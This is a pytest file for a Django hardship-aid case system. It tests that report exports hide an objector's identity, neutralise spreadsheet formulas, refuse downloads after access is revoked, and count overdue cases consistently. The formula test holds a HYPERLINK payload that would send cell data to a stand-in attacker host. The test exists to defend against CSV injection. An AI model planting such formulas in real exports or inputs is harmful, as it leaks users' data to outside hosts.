"""What an export must not leak or do: an objector's name to the applicant's side, a formula
that runs when the file is opened, a file to someone who may no longer read it; and the case
list's `overdue` as the reports count it."""

import csv
import io

import pytest
from openpyxl import load_workbook

from organizations.models import Membership
from reports import services
from tests.hardship.helpers import submit
from tests.helpers import post

pytestmark = pytest.mark.django_db


def _csv(response):
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_trail_export_withholds_the_objector_as_the_case_page_does(demo, api):
    from tests.hardship.test_flow import to_town_review

    # The chair files for a member and is the case's submitter: one of its own people.
    case = submit(api, demo.chair1, aid_type="medical", on_behalf_of="worker2")
    to_town_review(api, demo, case)
    url = f"/api/v1/cases/{case.pk}/objections/"
    assert post(api(demo.worker1), url, {"reason": "另有住房。"}).status_code == 201

    rows = _csv(api(demo.chair1).get(f"/api/v1/reports/cases/{case.pk}/trail.csv"))
    header = rows[0]
    events = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    [objection] = [e for e in events if e["操作代码"] == "hardship.objection"]
    assert objection["操作人"] == "不公开" and objection["来源IP"] == ""
    assert objection["意见"] == "另有住房。"
    text = "\n".join(",".join(r) for r in rows)
    assert demo.worker1.display_name not in text and "worker1" not in text
    pdf = api(demo.chair1).get(f"/api/v1/reports/cases/{case.pk}/trail.pdf")
    assert pdf.status_code == 200  # built from the same withheld events
    # An officer over the case who is not one of its people sees who objected.
    rows = _csv(api(demo.town_aid1).get(f"/api/v1/reports/cases/{case.pk}/trail.csv"))
    assert any("worker1" in cell for row in rows for cell in row)


def test_typed_text_never_becomes_a_formula_in_a_spreadsheet(demo, api):
    case = submit(api, demo.worker1, aid_type="festival")
    case.title = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    case.save(update_fields=["title"])
    auditor = api(demo.town_auditor)

    book = load_workbook(io.BytesIO(auditor.get("/api/v1/reports/cases.xlsx").getvalue()))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == case.title]
    assert cells and all(c.data_type == "s" for c in cells)

    rows = _csv(auditor.get("/api/v1/reports/cases.csv"))
    assert "'" + case.title in [cell for row in rows for cell in row]
    assert services.csvfile.text("-12.50") == "'-12.50"  # typed text, not an amount
    from decimal import Decimal

    assert services.csvfile.text(Decimal("-12.50")) == "-12.50"


def test_an_export_is_not_handed_to_someone_who_may_no_longer_read_it(demo, api):
    case = submit(api, demo.worker1, aid_type="festival")
    client = api(demo.town_auditor)
    response = post(
        client,
        "/api/v1/reports/exports/",
        {"kind": "trail", "format": "csv", "params": {"case": str(case.pk)}},
    )
    assert response.status_code == 202, response.json()
    job = response.json()["id"]
    assert client.get(f"/api/v1/reports/exports/{job}/").status_code == 200

    Membership.objects.filter(user=demo.town_auditor).delete()
    assert client.get(f"/api/v1/reports/exports/{job}/").status_code == 403
    assert client.get(f"/api/v1/reports/exports/{job}/download/").status_code == 403


def test_the_overdue_filter_counts_what_the_reports_count(demo, api, known):
    """The case list's `overdue` (and so its exports) is the summary's overdue figure: late
    steps, remittances unpaid past their due date, mediations past their term. It knew only
    late steps."""

    def numbers(url):
        response = api(demo.county_auditor).get(url)
        assert response.status_code == 200, response.json()
        return sorted(c["number"] for c in response.json()["results"])

    listed = numbers("/api/v1/cases/?overdue=true&page_size=100")
    figure = numbers("/api/v1/reports/cases/?figure=overdue&page_size=100")
    assert listed == figure
    assert any(n.startswith("JF-") for n in listed), "the unpaid remittances are among them"
    rest = numbers("/api/v1/cases/?overdue=false&page_size=100")
    assert not set(rest) & set(listed)
